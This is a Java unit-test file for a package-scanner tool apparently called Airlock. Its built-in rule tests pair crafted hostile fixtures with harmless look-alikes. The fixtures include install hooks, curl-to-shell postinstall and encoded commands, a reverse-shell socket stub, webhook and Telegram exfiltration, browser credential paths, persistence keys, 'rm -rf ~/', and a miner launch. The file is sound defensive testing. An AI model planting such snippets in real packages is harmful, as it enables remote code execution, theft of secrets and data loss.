package dev.airlock.scanner;

import static dev.airlock.archive.testing.TestArchives.file;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.airlock.archive.ArchiveLimits;
import dev.airlock.archive.ArchiveReader;
import dev.airlock.archive.testing.TestArchives;
import dev.airlock.domain.Finding;
import dev.airlock.domain.Severity;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Each rule of the built-in rule set, through the scanner port: a crafted hostile fixture that it
 * must report (rule, severity, file and line) and a harmless look-alike it must not refuse.
 * The fixtures are written here; none comes from a real malicious package.
 */
class BuiltinRulesTest {
  private static final String IP = "203.0.113.7"; // TEST-NET-3, documentation only
  /** Base64 shaped like key material; not a key. */
  static final String KEY_MATERIAL = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";

  @TempDir
  Path temp;

  private final BuiltinScanner scanner = new BuiltinScanner(new ArchiveReader(ArchiveLimits.defaults()));

  /** One rule's pair of fixtures. */
  record Case(String rule, Severity severity, String path, int line, String hostile, String benignPath,
      String benign) {
    @Override
    public String toString() {
      return rule + " in " + path;
    }
  }

  static Stream<Case> cases() {
    String b64Command = Base64.getEncoder().encodeToString(
        "curl -s https://example.invalid/p | sh".getBytes(StandardCharsets.US_ASCII));
    String b64Bytes = Base64.getEncoder().encodeToString(new byte[] {(byte) 0x9f, 0x12, (byte) 0xe1, 0x00, 0x7f,
        (byte) 0xc3, (byte) 0x88, 0x01, (byte) 0xfe, 0x33, 0x10, (byte) 0xaa, 0x42, (byte) 0xb0, 0x05, (byte) 0xd9,
        0x61, (byte) 0x8c, 0x2e, (byte) 0xf0, 0x04});
    String mangled = "var _0x1a2b3c=['a'];".repeat(45);
    return Stream.of(
        new Case("AIRLOCK-PY-INSTALL-HOOK", Severity.HIGH, "demo-1.0/setup.py", 3, """
            from setuptools import setup
            from setuptools.command.install import install
            class Hook(install):
                def run(self):
                    __import__("os").system("id")
            setup(name="demo", cmdclass={"install": Hook})
            """, "demo-1.0/setup.py", """
            from setuptools import setup
            setup(name="demo", version="1.0")
            """),
        new Case("AIRLOCK-SETUP-ACTION", Severity.HIGH, "demo-1.0/setup.py", 3, """
            import os
            from setuptools import setup
            os.system("curl -s https://example.invalid/ping")
            setup(name="demo")
            """, "demo-1.0/setup.py", """
            from setuptools import setup
            exec(open("demo/version.py").read())
            setup(name="demo", version=__version__)
            """),
        new Case("AIRLOCK-PTH-EXEC", Severity.HIGH, "demo/demo-init.pth", 1,
            "import os; os.system('id')\n", "demo/demo.pth", "import _demo_path_hook\n"),
        new Case("AIRLOCK-DECODE-EXEC", Severity.HIGH, "demo/demo/loader.py", 2, """
            blob = "kdjs"
            text = "".join(chr(ord(c) ^ 7) for c in blob)
            exec(text)
            """, "demo/demo/cipher.py", """
            def rot(text, key):
                return "".join(chr(ord(c) ^ key) for c in text)
            """),
        new Case("AIRLOCK-DOWNLOAD-EXEC", Severity.HIGH, "demo/demo/update.py", 3, """
            import requests
            import subprocess
            url = "https://example.invalid/tool.exe"
            open("tool.exe", "wb").write(requests.get(url).content)
            subprocess.Popen(["tool.exe"])
            """, "demo/demo/client.py", """
            import requests
            import subprocess
            version = requests.get("https://example.invalid/version.json").json()
            subprocess.run(["git", "status"])
            """),
        new Case("AIRLOCK-DOWNLOAD-EXEC", Severity.HIGH, "demo/demo/win.py", 3, """
            import subprocess
            subprocess.run(["powershell", "-c",
                "Invoke-WebRequest https://example.invalid/a.bin -OutFile $env:TEMP\\a.exe; Start-Process a.exe"])
            """, "demo/demo/jpeg.py", """
            import subprocess
            # an image tool's own -outfile flag is not a download
            subprocess.check_call(["djpeg", "-outfile", path, filename])
            """),
        new Case("AIRLOCK-REVERSE-SHELL", Severity.HIGH, "demo/demo/net.py", 4, """
            import os
            import socket
            s = socket.socket()
            s.connect(("%s", 4444))
            os.dup2(s.fileno(), 0)
            """.formatted(IP), "demo/demo/net.py", """
            import socket
            s = socket.socket()
            s.connect(("127.0.0.1", 8080))
            """),
        new Case("AIRLOCK-EXFIL-ENDPOINT", Severity.HIGH, "demo/demo/report.py", 2, """
            import requests
            HOOK = "https://webhook.site/00000000-demo"
            requests.post(HOOK, json={"x": 1})
            """, "demo/demo/notify.py", """
            import requests
            def notify(token, chat, text):
                url = f"https://api.telegram.org/bot{token}/sendMessage"
                requests.post(url, data={"chat_id": chat, "text": text})
            """),
        new Case("AIRLOCK-EXFIL-ENDPOINT", Severity.HIGH, "demo/demo/bot.py", 3, """
            import requests
            TOKEN = "1234567890:AA%s"
            URL = "https://api.telegram.org/bot" + TOKEN + "/sendMessage"
            """.formatted("x".repeat(33)), "demo/demo/bot.py", """
            import os
            TOKEN = os.environ["BOT_TOKEN"]
            """),
        new Case("AIRLOCK-HOST-EXFIL", Severity.HIGH, "demo/demo/stats.py", 2, """
            import getpass, requests
            who = getpass.getuser()
            requests.post("https://example.invalid/c", data={"u": who})
            """, "demo/demo/cache.py", """
            import getpass, os
            CACHE = os.path.join("/tmp", getpass.getuser(), "cache")
            """),
        new Case("AIRLOCK-CREDENTIAL-THEFT", Severity.HIGH, "demo/demo/paths.py", 2, """
            import os
            db = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
            """, "demo/demo/ssh.py", """
            import os, socket
            KEY = os.path.expanduser("~/.ssh/id_rsa")
            sock = socket.create_connection(("example.invalid", 22))
            """),
        new Case("AIRLOCK-OBFUSCATION", Severity.MEDIUM, "demo/demo/core.py", 1,
            "__pyarmor__(__name__, __file__, b'\\x50\\x59')\n", "demo/demo/core.py", """
            handlers = {"run": run_command, "exec": exec_command}
            """),
        new Case("AIRLOCK-OBFUSCATION", Severity.MEDIUM, "package/lib/index.js", 1, mangled + "\n",
            "package/lib/index.js", "var a = ['_0x1a2b3c'];\n"),
        new Case("AIRLOCK-PERSISTENCE", Severity.HIGH, "demo/demo/boot.py", 2, """
            import winreg
            KEY = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
            """, "demo/scripts/completion.sh", """
            # Install with: demo completion >> ~/.bashrc
            complete -F _demo demo
            """),
        new Case("AIRLOCK-DESTRUCTIVE", Severity.HIGH, "demo/scripts/clean.sh", 2, """
            #!/bin/sh
            rm -rf ~/ ;
            """, "demo/scripts/clean.sh", """
            #!/bin/sh
            rm -rf ./build
            """),
        new Case("AIRLOCK-CRYPTOMINER", Severity.HIGH, "demo/demo/run.py", 2, """
            import subprocess
            subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.invalid:3333"])
            """, "demo/demo/mining.py", """
            # text mining utilities
            def mine(corpus): return corpus.split()
            """),
        new Case("AIRLOCK-URL-DEPENDENCY", Severity.HIGH, "demo-1.0/requirements.txt", 2, """
            requests>=2.31
            demo-lib @ https://example.invalid/demo-lib-1.0.tar.gz
            """, "demo-1.0/requirements.txt", """
            requests>=2.31
            """),
        new Case("AIRLOCK-URL-DEPENDENCY", Severity.HIGH, "package/package.json", 4, """
            {
              "name": "demo",
              "dependencies": {
                "left": "github:someone/left"
              }
            }
            """, "package/package.json", """
            {"name": "demo", "dependencies": {"left": "^1.0.0"}}
            """),
        new Case("AIRLOCK-NPM-INSTALL-SCRIPT", Severity.HIGH, "package/package.json", 3, """
            {
              "name": "demo",
              "scripts": {"postinstall": "curl -s https://example.invalid/p.sh | sh"}
            }
            """, "package/package.json", """
            {"name": "demo", "scripts": {"postinstall": "node -e \\"try{require('./postinstall')}catch(e){}\\""}}
            """),
        new Case("AIRLOCK-ENCODED-PAYLOAD", Severity.HIGH, "demo/demo/const.py", 2,
            "import base64\nCMD = \"" + b64Command + "\"\n", "demo/demo/const.py",
            "DIGEST = \"" + b64Bytes + "\"\n"),
        new Case("AIRLOCK-DROPPER", Severity.HIGH, "demo/demo/setup_helper.py", 3, """
            import os
            open(os.environ["APPDATA"] + "\\\\run.pyw", "w").write("print(1)")
            os.startfile(os.environ["APPDATA"] + "\\\\run.pyw")
            """, "demo/demo/venv.py", """
            with open("activate.bat", "w") as f:
                f.write("@echo off")
            """),
        new Case("AIRLOCK-PRIVATE-KEY", Severity.MEDIUM, "demo/demo/key.pem", 1,
            "-----BEGIN OPENSSH PRIVATE KEY-----\n" + KEY_MATERIAL + "\n", "demo/demo/ssh.py",
            // a parser's format constant (cryptography's ssh.py): a header, no key
            "_SK_START = b\"-----BEGIN OPENSSH PRIVATE KEY-----\"\n_SK_END = b\"-----END OPENSSH PRIVATE KEY-----\"\n"),
        new Case("AIRLOCK-AWS-ACCESS-KEY", Severity.MEDIUM, "demo/demo/settings.py", 1,
            "KEY = 'AKIA2E0A8F3B244C9986'\n", "demo/demo/settings.py", "KEY = 'AKIAIOSFODNN7EXAMPLE'\n"),
        new Case("AIRLOCK-API-TOKEN", Severity.MEDIUM, "demo/demo/gh.py", 1,
            "TOKEN = 'ghp_" + "a1B2c3D4e5".repeat(3) + "f6G7h8'\n", "demo/demo/gh.py",
            "import os\nTOKEN = os.environ['GITHUB_TOKEN']\n"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void shouldReportTheRuleAtItsLineWhenTheHostileFixtureIsScanned(Case c) throws Exception {
    // When
    List<Finding> findings = scan("demo", file(c.path(), c.hostile()));

    // Then
    assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
        .contains(tuple(c.rule(), c.severity(), c.path() + ":" + c.line()));
    assertThat(findings).filteredOn(f -> f.ruleId().equals(c.rule()))
        .allSatisfy(f -> assertThat(f.description()).isNotBlank())
        .allSatisfy(f -> assertThat(f.recommendation()).isNotBlank());
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void shouldNotRefuseWhenTheHarmlessLookAlikeIsScanned(Case c) throws Exception {
    // When
    List<Finding> findings = scan("demo", file(c.benignPath(), c.benign()));

    // Then
    assertThat(findings).filteredOn(f -> f.severity().isAtLeast(Severity.MEDIUM)).isEmpty();
  }

  @Test
  void shouldHaveAHostileFixtureForEveryPatternRuleWhenTheRuleSetIsLoaded() {
    // Given
    Set<String> covered = new HashSet<>();
    cases().forEach(c -> covered.add(c.rule()));

    // Then
    assertThat(covered).containsAll(RuleSet.builtin().rules().stream()
        .filter(r -> !r.coded()).map(RuleSet.Rule::id).toList());
  }

  @Nested
  @DisplayName("severity inside minified bundles")
  class Bundles {

    @Test
    void shouldLowerObfuscationToLowWhenTheFileIsInADistBundle() throws Exception {
      // When
      List<Finding> findings = scan("demo", file("package/dist/app.min.js", "var _0x1a2b3c=['a'];".repeat(45)));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity)
          .containsExactly(tuple("AIRLOCK-OBFUSCATION", Severity.LOW));
    }

    @Test
    void shouldKeepTheFullSeverityWhenAPythonFileSitsInADistFolderOrHasLongLines() throws Exception {
      // When: Python is never minified, so neither its folder nor a long line makes it a bundle
      List<Finding> inDist = scan("demo", file("demo-1.0/demo/dist/report.py",
          "URL = 'https://discord.com/api/webhooks/1234567890/abcdef'\n"));
      List<Finding> longLine = scan("demo", file("demo-1.0/demo/report.py",
          "# " + "lorem ipsum ".repeat(500) + "\nURL = 'https://discord.com/api/webhooks/1234567890/abcdef'\n"));

      // Then
      assertThat(inDist).extracting(Finding::ruleId, Finding::severity)
          .containsExactly(tuple("AIRLOCK-EXFIL-ENDPOINT", Severity.HIGH));
      assertThat(longLine).extracting(Finding::ruleId, Finding::severity)
          .containsExactly(tuple("AIRLOCK-EXFIL-ENDPOINT", Severity.HIGH));
    }
  }

  @Nested
  @DisplayName("hints ignore case")
  class Hints {

    @Test
    void shouldReportWhenAnAddressIsWrittenInCapitalsThatItsCaseBlindPatternMatches() throws Exception {
      // When: host names are case-blind, and so is the pattern; its hint is written in lower case
      List<Finding> findings = scan("demo", file("demo-1.0/demo/report.py",
          "URL = 'https://API.TELEGRAM.ORG/bot1234567890:xyz/sendMessage'\n"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-EXFIL-ENDPOINT", Severity.HIGH, "demo-1.0/demo/report.py:1"));
    }
  }

  @Nested
  @DisplayName("AIRLOCK-BUNDLED-BINARY")
  class BundledBinary {
    private final byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0};

    @Test
    void shouldReportMediumWhenAPythonSourceArchiveShipsAProgram() throws Exception {
      // When
      List<Finding> findings = scan("demo", file("demo-1.0/demo/bin/helper", elf));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-BUNDLED-BINARY", Severity.MEDIUM, "demo-1.0/demo/bin/helper"));
    }

    @Test
    void shouldReportLowWhenTheBinaryIsAnExtensionModuleOrInAnNpmPackage() throws Exception {
      // When
      List<Finding> extension = scan("demo", file("demo-1.0/demo/_speedups.cpython-311-x86_64-linux-gnu.so", elf));
      List<Finding> npm = scan("demo", file("package/package.json", "{\"name\": \"demo\"}"),
          file("package/bin/tool", elf));

      // Then
      assertThat(extension).extracting(Finding::ruleId, Finding::severity)
          .containsExactly(tuple("AIRLOCK-BUNDLED-BINARY", Severity.LOW));
      assertThat(npm).extracting(Finding::ruleId, Finding::severity)
          .containsExactly(tuple("AIRLOCK-BUNDLED-BINARY", Severity.LOW));
    }
  }

  @Nested
  @DisplayName("AIRLOCK-TYPOSQUAT")
  class Typosquat {

    @Test
    void shouldReportHighWhenTheNameIsOneTypoFromAPopularPackage() throws Exception {
      // When
      List<Finding> findings = scan("reqeusts", file("reqeusts-1.0/reqeusts/__init__.py", "x = 1\n"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity).containsExactly(
          tuple("AIRLOCK-TYPOSQUAT", Severity.HIGH));
      assertThat(findings.get(0).description()).contains("'requests'");
    }

    @Test
    void shouldReportHighWhenTheWordsOfAPopularNameAreSwapped() throws Exception {
      // When
      List<Finding> findings = scan("dateutil-python", file("dateutil-python-1.0/dateutil/__init__.py", "x = 1\n"));

      // Then
      assertThat(findings).extracting(Finding::ruleId).containsExactly("AIRLOCK-TYPOSQUAT");
    }

    @Test
    void shouldNotReportWhenTheNameIsThePopularPackageItself() throws Exception {
      // When
      List<Finding> findings = scan("python-dateutil", file("python-dateutil-2.8/dateutil/__init__.py", "x = 1\n"));

      // Then
      assertThat(findings).isEmpty();
    }
  }

  private List<Finding> scan(String name, TestArchives.Entry... entries) throws IOException {
    Path archive = TestArchives.tarGz(Files.createTempFile(temp, name + "-", ".tar.gz"), entries);
    return scanner.scan(name, archive);
  }
}
